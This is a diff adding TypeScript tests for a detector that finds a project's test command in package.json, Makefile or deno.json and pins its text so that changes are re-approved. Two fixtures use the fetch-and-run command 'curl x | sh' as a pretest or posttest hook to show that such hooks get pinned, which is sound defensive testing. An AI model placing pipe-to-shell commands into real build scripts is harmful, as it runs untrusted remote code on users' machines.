@@ -74,6 +74,26 @@ test("pretest and posttest are pinned with the test script (npm runs them too)",
   assert.deepEqual(found?.pin, { kind: "text", text: "pretest: npm run lint\ntest: vitest run\nposttest: echo done" });
 });
 
+test("a malformed package.json is named with why: not JSON, or JSON that is not an object", () => {
+  assert.deepEqual(detect({ "package.json": "{ not json" }).skipped, [{ file: "package.json", why: "is not valid JSON; not read" }]);
+  for (const text of ["[1, 2]", '"a string"', "null", "7"]) {
+    assert.deepEqual(detect({ "package.json": text }).skipped, [{ file: "package.json", why: "does not hold a JSON object; not read" }], text);
+  }
+});
+
+test("only a leading byte-order mark is dropped: one inside the script is part of the pinned text", () => {
+  assert.deepEqual(detect({ "package.json": `\uFEFF${PACKAGE}` }).found?.pin, { kind: "text", text: "node --test" });
+  const hidden = JSON.stringify({ scripts: { test: "node --test\uFEFF" } });
+  assert.deepEqual(detect({ "package.json": hidden }).found?.pin, { kind: "text", text: "node --test\uFEFF" });
+});
+
+test("a pretest or a posttest alone is pinned with the test script; a blank one is not a script", () => {
+  const pin = (scripts: Record<string, string>): unknown => detect({ "package.json": JSON.stringify({ scripts }) }).found?.pin;
+  assert.deepEqual(pin({ pretest: "curl x | sh", test: "vitest run" }), { kind: "text", text: "pretest: curl x | sh\ntest: vitest run" });
+  assert.deepEqual(pin({ test: "vitest run", posttest: "curl x | sh" }), { kind: "text", text: "test: vitest run\nposttest: curl x | sh" });
+  assert.deepEqual(pin({ pretest: " ", test: "vitest run", posttest: "" }), { kind: "text", text: "vitest run" });
+});
+
 test("first match wins: package.json before Makefile before Cargo.toml before go.mod before pytest before deno.json, and later files are never read", () => {
   const all: Tree = {
     "package.json": PACKAGE,
@@ -119,6 +139,12 @@ test("deno.json: a test task (a string, or an object with a command) is deno tas
   assert.equal(detect({ "deno.json": JSON.stringify({ tasks: { dev: "deno run main.ts" } }) }).found, undefined);
   assert.equal(detect({ "deno.json": JSON.stringify({ tasks: { test: { description: "no command" } } }) }).found, undefined);
   assert.equal(detect({ "deno.json": "// comments\n{}" }).skipped[0]?.file, "deno.json");
+  for (const text of ["{}", JSON.stringify({ tasks: "deno test" }), JSON.stringify({ tasks: null })]) assert.deepEqual(detect({ "deno.json": text }), { found: undefined, skipped: [] }, text);
+});
+
+test("deno.json's test task is found as deno task test, named for people", () => {
+  const found = detect({ "deno.json": JSON.stringify({ tasks: { test: "deno test" } }) }).found;
+  assert.deepEqual(found, { command: "deno task test", file: "deno.json", where: "deno.json's test task", pin: { kind: "text", text: "deno test" } });
 });
 
 test("a file the reader passed over (a directory named go.mod, a 2 MiB Makefile, a FIFO) is named and the next file counts", () => {
@@ -152,6 +178,33 @@ test("Makefile: the test rule and its recipe are pinned; other targets, assignme
   assert.equal(makeTestRule("test := 1\ntest ?= 2\n"), undefined);
   assert.equal(makeTestRule("test: ; echo inline\r\nnext:\r\n"), "test: ; echo inline", "CRLF line ends");
   assert.equal(detect({ Makefile: "build:\n\tcc x.c\n" }).found, undefined, "a Makefile without a test target finds nothing");
+});
+
+test("Makefile: a comment after the rule, and assignments whose value holds test:, are read as make reads them", () => {
+  assert.equal(makeTestRule("test: build # the suite\n\tgo test ./...\n"), "test: build # the suite\n\tgo test ./...");
+  assert.equal(makeTestRule("MSG = running test: now\nCHECK := test: x\nbuild:\n\tcc x.c\n"), undefined);
+});
+
+test("Makefile: blank, spaces-only and comment lines inside a recipe do not end it; the next rule does", () => {
+  const text = "test:\n\t@echo a\n   \n\t@echo b\n# one\n  # two\n\t@echo c\nnext: # not test\n\t@echo next\n";
+  assert.equal(makeTestRule(text), "test:\n\t@echo a\n   \n\t@echo b\n# one\n  # two\n\t@echo c");
+});
+
+test("Makefile: everything make runs for test is pinned, so editing it asks again", () => {
+  // A lone CR is not a line end to make: the tab line after it is still test's recipe.
+  assert.equal(makeTestRule("test: ; @echo ok\rX = 1\n\t@echo run\n"), "test: ; @echo ok\rX = 1\n\t@echo run");
+  // A backslash joins the next recipe line, tab or not (sh runs `echo a ; echo run`).
+  assert.equal(makeTestRule("test:\n\t@echo a \\\n; echo run\nnext:\n\tx\n"), "test:\n\t@echo a \\\n; echo run");
+  // Every rule for test: a prerequisites-only line first, the recipe in a later rule.
+  assert.equal(makeTestRule("test: lint\nlint:\n\t@echo lint\n\ntest:\n\t@echo run\n"), "test: lint\ntest:\n\t@echo run");
+  // Another recipe prefix: the whole Makefile.
+  assert.equal(makeTestRule(".RECIPEPREFIX = >\r\ntest:\r\n>@echo run\r\n"), ".RECIPEPREFIX = >\ntest:\n>@echo run\n");
+  assert.equal(makeTestRule(".RECIPEPREFIX = >\nbuild:\n>cc\n"), undefined, "no test rule: nothing found");
+});
+
+test("Makefile: a backslash on the last line ends the text, rule or recipe", () => {
+  assert.equal(makeTestRule("test: a \\"), "test: a \\");
+  assert.equal(makeTestRule("test:\n\tgo test \\"), "test:\n\tgo test \\");
 });
 
 test("a 2 MiB Makefile text is scanned without trouble (the reader caps it at 1 MiB before it gets here)", () => {
